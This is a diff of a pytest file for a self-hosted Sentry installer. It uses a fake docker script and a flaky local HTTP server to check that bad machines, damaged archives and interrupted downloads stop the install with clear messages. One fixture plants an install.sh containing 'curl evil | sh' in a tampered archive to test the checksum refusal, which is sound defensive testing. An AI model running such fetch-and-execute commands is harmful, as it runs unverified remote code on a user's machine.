@@ -11,8 +11,10 @@ import signal
 import socket
 import subprocess
 import sys
-from collections.abc import Iterator
+import threading
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import httpx
@@ -38,7 +40,7 @@ case "$*" in
   "version "*) echo '{{"Version": "28.5.2", "Arch": "amd64"}}' ;;
   "compose version --short") cat compose-version ;;
   "buildx version") echo "github.com/docker/buildx 0.29.1" ;;
-  "info "*) echo '{{"NCPU": 4, "MemTotal": 34359738368, "DockerRootDir": "/"}}' ;;
+  "info "*) echo '{{"NCPU": 4, "MemTotal": '"$(cat memory)"', "DockerRootDir": "/"}}' ;;
   "volume ls "*) cat volumes ;;
   "compose --ansi never -p "*" up "*)
     env | grep ^STACK_ >stack-environment
@@ -127,6 +129,7 @@ def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
     (tmp_path / "docker").write_text(DOCKER.format(folder=tmp_path, port=port, python=sys.executable))
     (tmp_path / "docker").chmod(0o755)
     (tmp_path / "compose-version").write_text("2.40.3")
+    (tmp_path / "memory").write_text("34359738368")
     (tmp_path / "volumes").write_text("unrelated\n")
     (tmp_path / "docker.log").touch()
     archive = make_archive(tmp_path / "release.tar.gz")
@@ -251,21 +254,63 @@ def test_an_installer_that_fails_is_quoted_and_the_next_run_goes_on_from_it(host
     host.install()
 
 
+def put(file: str, text: str) -> Callable[[Host], dict[str, str]]:
+    """What the made-up docker answers."""
+
+    def change(host: Host) -> dict[str, str]:
+        (host.folder / file).write_text(text)
+        return {}
+
+    return change
+
+
+def without_docker(host: Host) -> dict[str, str]:
+    (host.folder / "docker").write_text("#!/bin/sh\necho Cannot connect to the Docker daemon >&2; exit 1\n")
+    return {}
+
+
+def with_another_archive(host: Host) -> dict[str, str]:
+    make_archive(host.folder / "release.tar.gz", FILES | {"install.sh": "curl evil | sh"})
+    return {}
+
+
+def with_half_an_archive(host: Host) -> dict[str, str]:
+    whole = (host.folder / "release.tar.gz").read_bytes()
+    (host.folder / "release.tar.gz").write_bytes(whole[: len(whole) // 2])
+    return {}
+
+
+def without_archive(host: Host) -> dict[str, str]:
+    return {"SENTRY_TARBALL": str(host.folder / "none.tar.gz")}
+
+
 @pytest.mark.parametrize(
-    ("file", "text", "said"),
+    ("break_it", "found", "needed", "following"),
     [
-        ("compose-version", "1.29.2", "1.29.2"),
-        ("compose-version", "2.26.1-4", "2.32.2 or newer"),
-        ("volumes", "sentry-data\nsentry-postgres\n", "one host holds one self-hosted Sentry"),
+        (without_docker, "Cannot connect to the Docker daemon", "19.03.6 or newer", "make sentry-preflight"),
+        (put("compose-version", "1.29.2"), "1.29.2", "2.32.2 or newer", "make sentry-preflight"),
+        (put("compose-version", "2.26.1-4"), "2.26.1-4", "2.32.2 or newer", "make sentry-preflight"),
+        (put("memory", "4294967296"), "4096 MB", "14000 MB (feature-complete)", "make sentry-preflight"),
+        (put("volumes", "sentry-data\n"), "sentry-data", "one host holds one self-hosted", "make sentry-preflight"),
+        (with_another_archive, "found contents", "needed are", "make sentry-install from another network"),
+        (with_half_an_archive, "found no whole archive", "needed is the release's", "make sentry-install"),
+        (without_archive, "found no file", "needed is the archive", "make sentry-install SENTRY_TARBALL=<file>"),
     ],
-    ids=["Compose 1", "Compose too old", "a second install"],
-)
-def test_what_the_machine_lacks_ends_it_before_anything_is_changed(host: Host, file: str, text: str, said: str) -> None:
-    (host.folder / file).write_text(text)
-    for command in ("preflight", "install"):
-        done = host.run(command)
-        assert (done.returncode, done.stdout) == (3, "")
-        assert said in done.stderr
+    ids=[
+        "no Docker", "Compose 1", "an old Compose", "too little memory", "a second install", "a wrong checksum",
+        "a damaged archive", "no archive",
+    ],
+)  # fmt: skip
+def test_bad_input_ends_with_what_was_found_what_is_needed_and_the_next_command(
+    host: Host, break_it: Callable[[Host], dict[str, str]], found: str, needed: str, following: str
+) -> None:
+    done = host.run("install", **break_it(host))
+    assert (done.returncode, done.stdout) == (3, "")
+    said = " ".join(done.stderr.split())
+    assert found in said
+    assert needed in said
+    assert "next: " in said
+    assert following in said.rpartition("next: ")[2]
     assert not host.release.exists()
     assert host.asked() == []
 
@@ -275,15 +320,36 @@ def test_a_taken_port_is_a_row_of_its_own(host: Host) -> None:
     with socket.create_server(("127.0.0.1", int(taken.rpartition(":")[2]))):
         done = host.run("preflight", SENTRY_BIND=taken)
     assert done.returncode == 3
-    assert f"missing: port {taken}: stop what listens there" in done.stderr
+    assert f"missing: port {taken}: stop what listens there, or SENTRY_BIND=127.0.0.1:<another>" in done.stderr
 
 
-def test_a_wrong_checksum_ends_it_with_nothing_unpacked(host: Host) -> None:
-    make_archive(host.folder / "release.tar.gz", FILES | {"install.sh": "curl evil | sh"})
-    done = host.run("install")
-    assert done.returncode == 3
-    assert "do not install it" in done.stderr
-    assert not host.release.exists()
+def test_a_network_that_fails_half_way_leaves_nothing_and_the_next_run_repairs_it(host: Host) -> None:
+    whole = (host.folder / "release.tar.gz").read_bytes()
+    sent = [whole[: len(whole) // 2], whole]
+
+    class Flaky(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(whole)))
+            self.end_headers()
+            self.wfile.write(sent.pop(0))
+
+        def log_message(self, format: str, *args: object) -> None: ...  # noqa: A002 - its own name
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Flaky)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        url = ("--url", f"http://127.0.0.1:{server.server_port}/{{release}}")
+        broken = host.run("install", *url, SENTRY_TARBALL="")
+        assert broken.returncode == 3
+        said = " ".join(broken.stderr.split())
+        assert f"after {len(whole) // 2} bytes, needed is the whole archive; next: make sentry-install again" in said
+        assert list((host.home / "downloads").iterdir()) == []
+        mended = host.run("install", *url, SENTRY_TARBALL="")
+        assert mended.returncode == 0, mended.stderr
+    finally:
+        server.shutdown()
+        server.server_close()
 
 
 def test_an_unpinned_release_says_plainly_that_nobody_vouches_for_it(host: Host) -> None:
